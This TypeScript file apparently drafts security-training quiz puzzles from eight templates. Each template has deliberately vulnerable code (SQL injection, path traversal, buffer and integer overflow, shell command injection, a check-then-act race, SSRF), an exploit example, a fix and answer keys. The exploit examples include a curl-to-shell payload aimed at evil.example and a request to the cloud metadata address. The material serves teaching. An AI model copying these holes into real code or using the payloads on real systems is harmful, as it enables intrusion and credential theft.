import type { Category } from '../../contract/categories.ts';
import type { PuzzleDraft } from '../../contract/generate.ts';
import { type Language, letters } from '../../contract/puzzles.ts';

/** `right` stands first in what is asked; where it stands in a draft varies. */
interface Choice {
  text: string;
  right: [option: string, note: string];
  wrong: [option: string, note: string][];
}

interface PuzzleTemplate {
  language: Language;
  /** Words of a request that this template fits. */
  words: RegExp;
  category: Category;
  cwe: number;
  title: string;
  /** What the code does, without the flaw. */
  does: string;
  code: string;
  line: { line: number; note: string };
  flaw: string;
  exploit: string;
  fix: string;
  where: Choice;
  mend: Choice;
}

interface Requests {
  language: Language;
  application_request: string;
  vulnerability_request: string;
}

/** A puzzle made of the template that fits the requests best, to be reworked by staff. */
export function draftPuzzleByTemplate({ language, application_request, vulnerability_request }: Requests): PuzzleDraft {
  const known = templates.filter((template) => template.language === language);
  const asked = `${vulnerability_request} ${application_request}`;
  const template =
    known.find(({ words }) => words.test(vulnerability_request)) ??
    known.find(({ words }) => words.test(asked)) ??
    known[0];
  if (!template) throw new Error(`There is no template for ${language}.`);
  const { title, does, category, cwe, code, line, flaw, exploit, fix, where, mend } = template;
  const seed = asked.length;
  return {
    title,
    description: [application_request && `Part of: ${application_request.replace(/[.\s]+$/, '')}.`, does]
      .filter(Boolean)
      .join(' ')
      .slice(0, 1000),
    category,
    cwe,
    difficulty: 2,
    code_snippet: code,
    explanation: `## The flaw\n\n${flaw}\n\n## How it is exploited\n\n${exploit}\n\n## The fix\n\n${fix}`,
    lines: [line],
    questions: [question('Where', where, seed), question('Fix', mend, seed + 1)],
  };
}

function question(label: string, { text, right, wrong }: Choice, seed: number): PuzzleDraft['questions'][number] {
  const place = seed % letters.length;
  const options = wrong.toSpliced(place, 0, right);
  const [a, b, c, d] = options.map(([option]) => option);
  const [A, B, C, D] = options.map(([, note]) => note);
  return {
    label,
    text,
    option_a: a ?? '',
    option_b: b ?? '',
    option_c: c ?? '',
    option_d: d ?? '',
    correct_answer: letters[place] ?? 'A',
    notes: { A: A ?? '', B: B ?? '', C: C ?? '', D: D ?? '' },
  };
}

const templates: readonly PuzzleTemplate[] = [
  {
    language: 'PYTHON',
    words: /sql|inject|query|database|login/i,
    category: 'Injection',
    cwe: 89,
    title: 'Search by Name',
    does: 'Customers are looked up by a part of their name.',
    code: `import sqlite3


def find_customers(db: sqlite3.Connection, name: str, limit: int = 20):
    if not name.strip():
        return []
    rows = db.execute(
        "SELECT id, name, city FROM customers "
        f"WHERE name LIKE '%{name}%' "
        "ORDER BY name LIMIT ?",
        (min(limit, 100),),
    )
    return [dict(zip(("id", "name", "city"), row)) for row in rows]`,
    line: { line: 9, note: 'Text becomes SQL. The name is part of the statement.' },
    flaw: 'Line 9 writes `name` into the text of the statement. A quote in it ends the string, and what follows is SQL.',
    exploit:
      "`x' UNION SELECT id, password, email FROM users --` as a name returns another table in place of the customers.",
    fix: 'Bind the pattern as a parameter: `WHERE name LIKE ?` with `f"%{name}%"` among the values, as line 11 does with the limit.',
    where: {
      text: 'Which line lets a visitor change what the statement means?',
      right: ['Line 9', 'The name is put between quotes that it can close itself.'],
      wrong: [
        ['Line 5', 'Refusing blank names is no defence, and no flaw.'],
        ['Line 10', 'The limit is bound as a parameter.'],
        ['Line 13', 'Rows are only renamed here; the statement has run.'],
      ],
    },
    mend: {
      text: 'Which change mends it?',
      right: ['Bind the pattern as a parameter', 'A bound value is never read as SQL.'],
      wrong: [
        ['Remove semicolons from the name', 'A UNION needs none.'],
        ['Cut the name to 40 characters', 'Much fits into 40 characters.'],
        ['Lower the limit to 10', 'The injected text can comment the limit out.'],
      ],
    },
  },
  {
    language: 'PYTHON',
    words: /path|file|upload|download|travers|archive/i,
    category: 'File & Path Handling',
    cwe: 22,
    title: 'The Report Shelf',
    does: 'Signed-in users download reports by their file name.',
    code: `from pathlib import Path

REPORTS = Path("/srv/reports")


def read_report(name: str) -> bytes:
    if not name.endswith(".pdf"):
        raise ValueError("not a report")
    path = REPORTS / name
    if not path.is_file():
        raise FileNotFoundError(name)
    return path.read_bytes()`,
    line: { line: 9, note: 'Leaves the shelf. The name may contain ../ or be absolute.' },
    flaw: 'Line 9 joins a name that a user has chosen. `..` climbs out of the folder, and an absolute name replaces it altogether.',
    exploit: '`../invoices/2026-11.pdf` or `/home/ann/contract.pdf` is read although it is no report.',
    fix: 'Resolve the joined path and refuse it unless `path.is_relative_to(REPORTS)`, or take reports by an id from a table.',
    where: {
      text: 'Which line lets a user read what is no report?',
      right: ['Line 9', 'Nothing keeps the joined path below the folder.'],
      wrong: [
        ['Line 7', 'It keeps other kinds of files out, which is right and too little.'],
        ['Line 10', 'Testing for a file only avoids an error.'],
        ['Line 12', 'It reads what line 9 has chosen.'],
      ],
    },
    mend: {
      text: 'Which change mends it?',
      right: ['Resolve the path and require that it lies below REPORTS', 'It holds for every way of writing a path.'],
      wrong: [
        ['Replace "../" in the name once', '"....//" leaves "../" behind, and absolute paths stay.'],
        ['Compare the ending in lower case', 'The ending is not what is wrong.'],
        ['Open the file read-only', 'Reading is the harm.'],
      ],
    },
  },
  {
    language: 'C',
    words: /buffer|memory|bounds|stack|heap|packet|pars/i,
    category: 'Memory Safety',
    cwe: 787,
    title: 'The Long Label',
    does: 'A device reads labelled records from the network.',
    code: `#include <stdint.h>
#include <string.h>

struct record {
    char label[32];
    uint16_t kind;
};

int read_record(struct record *out, const uint8_t *data, size_t size)
{
    if (size < 3)
        return -1;
    uint8_t label_size = data[2];
    if (size - 3 < label_size)
        return -1;
    out->kind = (uint16_t)(data[0] << 8 | data[1]);
    memcpy(out->label, data + 3, label_size);
    out->label[label_size] = '\\0';
    return 0;
}`,
    line: { line: 17, note: 'Writes past the label. Up to 255 bytes go into 32.' },
    flaw: 'The length of the label is checked against what was received, but never against the 32 bytes of `label` that line 17 writes to.',
    exploit: 'A record with a label of 255 bytes overwrites `kind` and what lies behind the record.',
    fix: 'Refuse labels that do not fit with their terminator: `if (label_size >= sizeof out->label) return -1;`',
    where: {
      text: 'Which line writes beyond its object?',
      right: ['Line 17', 'It copies up to 255 bytes into 32.'],
      wrong: [
        ['Line 11', 'Three bytes are there before they are read.'],
        ['Line 14', 'It keeps the read within what was received.'],
        ['Line 16', 'Two bytes make a 16-bit number.'],
      ],
    },
    mend: {
      text: 'Which change mends it?',
      right: ['Refuse a label_size of sizeof out->label or more', 'The label and its terminator then fit.'],
      wrong: [
        ['Refuse a label_size above sizeof out->label', 'At 32 the terminator is written one byte beyond.'],
        ['Make label_size a size_t', 'Its greatest value stays 255, and 255 is too much.'],
        ['Use memmove in place of memcpy', 'It copies as many bytes.'],
      ],
    },
  },
  {
    language: 'C',
    words: /integer|alloc|wrap|arithmetic|size|image/i,
    category: 'Integer Handling',
    cwe: 190,
    title: 'Room for Pixels',
    does: 'A viewer makes room for an image whose size stands in its header.',
    code: `#include <stdint.h>
#include <stdlib.h>

struct image {
    uint32_t width, height;
    uint8_t *pixels;
};

int make_image(struct image *image, uint32_t width, uint32_t height)
{
    if (width == 0 || height == 0)
        return -1;
    uint32_t bytes = width * height * 4;
    image->pixels = malloc(bytes);
    if (image->pixels == NULL)
        return -1;
    image->width = width;
    image->height = height;
    return 0;
}`,
    line: { line: 13, note: 'Wraps. The product of 32-bit numbers is cut to 32 bits.' },
    flaw: 'The product in line 13 wraps around at 2^32, so that the buffer is much smaller than the image which is then drawn into it.',
    exploit: 'A width of 0x10000 and a height of 0x4001 ask for 256 KiB of room and 4 GiB of pixels.',
    fix: 'Compute in `size_t` and refuse what does not fit: `if (width > MAX_BYTES / 4 / height) return -1;`',
    where: {
      text: 'Which line makes the buffer too small?',
      right: ['Line 13', 'The product wraps around.'],
      wrong: [
        ['Line 11', 'Empty images are refused as they should be.'],
        ['Line 14', 'It asks for what line 13 has computed.'],
        ['Line 15', 'A failed allocation is noticed.'],
      ],
    },
    mend: {
      text: 'Which change mends it?',
      right: ['Refuse sizes whose product exceeds a limit, found by division', 'Division does not wrap.'],
      wrong: [
        ['Use calloc(1, bytes)', 'bytes has wrapped already.'],
        ['Check bytes < width afterwards', 'A wrapped product may well be larger than the width.'],
        ['Make bytes a signed int', 'Then it overflows sooner, and without a defined meaning.'],
      ],
    },
  },
  {
    language: 'RUST',
    words: /path|file|upload|download|travers|static/i,
    category: 'File & Path Handling',
    cwe: 22,
    title: 'Joined at the Root',
    does: 'A small server hands out the files of one folder.',
    code: `use std::fs;
use std::io;
use std::path::Path;

const ROOT: &str = "/srv/public";

pub fn serve(name: &str) -> io::Result<Vec<u8>> {
    if name.contains("..") {
        return Err(io::ErrorKind::PermissionDenied.into());
    }
    let path = Path::new(ROOT).join(name);
    let size = fs::metadata(&path)?.len();
    if size > 8 * 1024 * 1024 {
        return Err(io::ErrorKind::InvalidData.into());
    }
    fs::read(path)
}`,
    line: { line: 11, note: 'Forgets the root. An absolute name replaces it.' },
    flaw: '`Path::join` in line 11 drops what stands before an absolute path. The check for `..` does not see that.',
    exploit: '`/etc/passwd` as a name contains no `..`, and is read.',
    fix: 'Canonicalize the joined path and require that it `starts_with` the canonical root; this also covers links.',
    where: {
      text: 'Which line lets a visitor leave the folder?',
      right: ['Line 11', 'An absolute name takes the place of the root.'],
      wrong: [
        ['Line 8', 'It refuses climbing, which is right and too little.'],
        ['Line 12', 'It only asks for the size.'],
        ['Line 16', 'It reads what line 11 has chosen.'],
      ],
    },
    mend: {
      text: 'Which change mends it?',
      right: ['Canonicalize, then require that the path starts with ROOT', 'It judges where the path really leads.'],
      wrong: [
        ['Also refuse names that contain "./"', '"/etc/passwd" contains none.'],
        [
          'Use format!("{ROOT}/{name}") and keep the rest',
          'Absolute names are tamed, links in the folder still lead out.',
        ],
        ['Read at most 8 MiB', 'The size is not what is wrong.'],
      ],
    },
  },
  {
    language: 'RUST',
    words: /command|shell|inject|exec|process/i,
    category: 'Injection',
    cwe: 78,
    title: 'Ping Me',
    does: 'An administration page checks whether a host answers.',
    code: `use std::io;
use std::process::Command;

pub fn answers(host: &str) -> io::Result<bool> {
    if host.is_empty() || host.len() > 253 {
        return Ok(false);
    }
    let status = Command::new("sh")
        .arg("-c")
        .arg(format!("ping -c 1 -W 2 {host} > /dev/null"))
        .status()?;
    Ok(status.success())
}`,
    line: { line: 10, note: 'A shell reads the host. ; and $() are commands to it.' },
    flaw: 'Line 10 makes the host a part of a shell command, and the shell gives meaning to its characters.',
    exploit: '`x; curl evil.example | sh` as a host runs what the attacker has chosen.',
    fix: 'Start `ping` without a shell, `Command::new("ping").args(["-c", "1", "-W", "2", "--", host])`, and drop its output by `Stdio::null()`.',
    where: {
      text: 'Which line lets the host become a command?',
      right: ['Line 10', 'The text is read by a shell.'],
      wrong: [
        ['Line 5', 'The bounds of a host name are right.'],
        ['Line 11', 'It starts what the lines above have made.'],
        ['Line 12', 'It only reads how the command has ended.'],
      ],
    },
    mend: {
      text: 'Which change mends it?',
      right: ['Start ping itself, with the host as one argument', 'No shell reads the host any more.'],
      wrong: [
        ['Put the host between double quotes', '$() still works between them, and a quote ends them.'],
        ['Refuse hosts with a semicolon', '&&, |, a newline and $() are left.'],
        ['Shorten the limit to 63 characters', 'A command fits into 63 characters.'],
      ],
    },
  },
  {
    language: 'GO',
    words: /race|concurr|lock|balance|goroutine|transfer|counter|wallet/i,
    category: 'Concurrency',
    cwe: 362,
    title: 'Spend It Twice',
    does: 'Customers spend the credit of a gift card.',
    code: `package cards

import (
	"errors"
	"sync"
)

type Cards struct {
	mu      sync.Mutex
	credits map[string]int
}

func (c *Cards) credit(id string) int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.credits[id]
}

func (c *Cards) Spend(id string, amount int) error {
	if amount <= 0 || c.credit(id) < amount {
		return errors.New("not enough credit")
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	c.credits[id] -= amount
	return nil
}`,
    line: { line: 20, note: 'Checked too early. The lock is free again before line 25.' },
    flaw: 'The check of line 20 and the change of line 25 each hold the lock, but not the same time: between them others may spend.',
    exploit: 'Two requests at the same moment both pass the check, and the credit of one card pays twice.',
    fix: 'Take the lock once, before the check, and read `c.credits[id]` while holding it.',
    where: {
      text: 'Which line decides by what may no longer hold?',
      right: ['Line 20', 'The lock is released between this check and the change.'],
      wrong: [
        ['Line 16', 'It reads while it holds the lock.'],
        ['Line 24', 'Unlocking at the end is right.'],
        ['Line 25', 'The change itself is made under the lock.'],
      ],
    },
    mend: {
      text: 'Which change mends it?',
      right: ['Hold the lock from before the check to after the change', 'Nobody comes in between.'],
      wrong: [
        ['Make the mutex an RWMutex', 'The lock is still released in between.'],
        ['Call credit() twice and compare', 'There is still a moment after the second call.'],
        ['Use a sync.Map', 'Check and change stay two operations.'],
      ],
    },
  },
  {
    language: 'GO',
    words: /ssrf|url|fetch|request|webhook|preview|network|http/i,
    category: 'Web & Network',
    cwe: 918,
    title: 'A Glance at a Link',
    does: 'A chat shows a preview of links.',
    code: `package preview

import (
	"errors"
	"io"
	"net/http"
	"net/url"
	"time"
)

var client = &http.Client{Timeout: 5 * time.Second}

func Load(link string) ([]byte, error) {
	target, err := url.Parse(link)
	if err != nil || (target.Scheme != "http" && target.Scheme != "https") {
		return nil, errors.New("not a link")
	}
	if target.Hostname() == "localhost" || target.Hostname() == "127.0.0.1" {
		return nil, errors.New("not a public link")
	}
	reply, err := client.Get(target.String())
	if err != nil {
		return nil, err
	}
	defer reply.Body.Close()
	return io.ReadAll(io.LimitReader(reply.Body, 1<<20))
}`,
    line: { line: 18, note: 'Judges by name. Others lead inside, and redirects too.' },
    flaw: 'Line 18 knows two spellings of inside. Other names, addresses and redirects lead to the same places.',
    exploit:
      '`http://169.254.169.254/` or a public page that redirects there makes the server show its cloud credentials.',
    fix: 'Judge the address that is dialled: a `net.Dialer` with a `Control` function that refuses private, loopback and link-local ones, also after redirects.',
    where: {
      text: 'Which line should keep visitors out of the inner network, and does not?',
      right: ['Line 18', 'A list of two names is no description of an inner network.'],
      wrong: [
        ['Line 15', 'Only the web is left by it, as it should be.'],
        ['Line 11', 'A limit of time is right.'],
        ['Line 26', 'A limit of size is right.'],
      ],
    },
    mend: {
      text: 'Which change mends it?',
      right: ['Refuse inner addresses when the connection is dialled', 'It holds for every name and every redirect.'],
      wrong: [
        ['Resolve the name first and check that address', 'It may resolve to another one a moment later.'],
        ['Add 0.0.0.0 and ::1 to the names', 'Names that lead there are without number.'],
        ['Allow https alone', 'Inner services have that, too.'],
      ],
    },
  },
];
